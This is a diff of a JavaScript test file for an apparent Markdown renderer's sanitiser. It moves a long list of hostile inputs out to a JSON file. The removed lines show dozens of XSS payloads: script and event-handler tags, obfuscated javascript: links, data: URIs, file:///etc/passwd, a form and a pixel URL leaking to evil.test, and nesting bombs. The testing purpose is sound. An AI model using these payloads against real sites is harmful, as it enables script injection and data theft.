@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
 import { test } from "node:test";
 import { at, elements, plain, textOf } from "./page.mjs";
 
@@ -10,68 +11,7 @@ const found = (text, name) => elements(drawn(text)).filter((e) => e.name === nam
 const ALLOWED = new Set("p h3 h4 h5 h6 blockquote hr pre ul ol li div table thead tbody tr th td strong em del code br a span".split(" "));
 const ATTRIBUTES = new Set(["href", "target", "rel", "class", "start", "data-align", "scope", "tabindex", "role", "language"]);
 
-const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)><circle/></svg>",
-  "<iframe src='javascript:alert(1)'></iframe>",
-  "<div style='position:fixed;inset:0'>overlay</div>",
-  "<form action='https://evil.test'><input name=a><button>go</button></form>",
-  "<a href='javascript:alert(1)'>x</a>",
-  "<style>*{display:none}</style>",
-  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
-  "<base href='https://evil.test/'>",
-  "<link rel=stylesheet href='https://evil.test/a.css'>",
-  "<video src='https://evil.test/v' autoplay></video>",
-  "<object data='https://evil.test'></object>",
-  "<!-- <script>alert(1)</script> -->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "<details open ontoggle=alert(1)>x</details>",
-  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\nscript:alert(1))",
-  "[x](&#106;avascript:alert(1))",
-  "[x](\u0001javascript:alert(1))",
-  "[x]( javascript:alert(1))",
-  "[x](data:text/html,<script>alert(1)</script>)",
-  "[x](vbscript:msgbox(1))",
-  "[x](file:///etc/passwd)",
-  "[x](//evil.test)",
-  "[x](/v1/agent/sessions)",
-  "[x](#a)",
-  "[x](blob:https://evil.test/1)",
-  "<javascript:alert(1)>",
-  "[ref]\n\n[ref]: javascript:alert(1)",
-  "![x](javascript:alert(1))",
-  "![x](https://evil.test/pixel.png?secret)",
-  "![x][i]\n\n[i]: https://evil.test/p.png",
-  "[![x](https://evil.test/p.png)](javascript:alert(1))",
-  "![<script>](https://evil.test/p.png)",
-  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-  "https://evil.test/<script>alert(1)</script>",
-  "[a](https://e.test \"onmouseover=alert(1)\")",
-  "[a](<https://e.test\" onclick=\"alert(1)>)",
-  "`<script>alert(1)</script>`",
-  "```html\n<script>alert(1)</script>\n```",
-  "```\"><script>alert(1)</script>\nx\n```",
-  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>1</script> |",
-  "# <script>alert(1)</script>",
-  "> <img src=x onerror=alert(1)>",
-  "- <svg onload=alert(1)>\n- [x](data:text/html,1)",
-  "- [ ] <input type=checkbox onclick=alert(1)>",
-  "**<b onclick=alert(1)>x</b>**",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "a\u202egnp.exe <script>",
-  "<p><table><td><script>alert(1)",
-  "<x".repeat(500),
-  "[".repeat(2000),
-  ">".repeat(500) + " deep",
-  "- ".repeat(200) + "deep",
-  "*".repeat(2000),
-  "[a](".repeat(500),
-  "<a ".repeat(300) + "href=javascript:alert(1)>",
-];
+const HOSTILE = JSON.parse(readFileSync(new URL("hostile.json", import.meta.url), "utf8"));
 
 test(`${HOSTILE.length} hostile texts become no markup of theirs, no other link than http, https and mailto, and no request`, () => {
   for (const text of HOSTILE) {
